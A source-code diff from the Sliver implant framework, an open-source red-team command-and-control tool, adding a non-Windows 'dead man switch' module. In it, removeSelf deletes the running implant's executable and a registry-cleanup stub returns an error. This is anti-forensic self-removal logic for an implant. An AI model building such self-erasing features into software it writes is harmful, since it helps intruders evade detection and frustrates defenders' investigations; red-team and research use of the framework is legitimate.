@@ -1,10 +1,10 @@
 //go:build !windows
 
-package httpclient
+package deadman
 
 /*
 	Sliver Implant Framework
-	Copyright (C) 2019  Bishop Fox
+	Copyright (C) 2023  Bishop Fox
 
 	This program is free software: you can redistribute it and/or modify
 	it under the terms of the GNU General Public License as published by
@@ -20,23 +20,25 @@ package httpclient
 	along with this program.  If not, see <https://www.gnu.org/licenses/>.
 */
 
+// {{if .Config.DeadManSwitchDays}}
+
 import (
-	// {{if .Config.Debug}}
-	"log"
-	// {{end}}
+	"errors"
+	"os"
 )
 
-// GetHTTPDriver - Get an instance of the specified HTTP driver
-func GetHTTPDriver(origin string, secure bool, opts *HTTPOptions) (HTTPDriver, error) {
-	switch opts.Driver {
-
-	case goHTTPDriver:
-		return GoHTTPDriver(origin, secure, opts)
+// removeRegistryValue - Only windows has a registry
+func removeRegistryValue(path string) error {
+	return errors.New("registry not supported")
+}
 
-	default:
-		// {{if .Config.Debug}}
-		log.Printf("WARNING: unknown HTTP driver: %s", opts.Driver)
-		// {{end}}
-		return GoHTTPDriver(origin, secure, opts)
+// removeSelf - The executable can be deleted while it's running
+func removeSelf() error {
+	executable, err := os.Executable()
+	if err != nil {
+		return err
 	}
+	return os.Remove(executable)
 }
+
+// {{end}}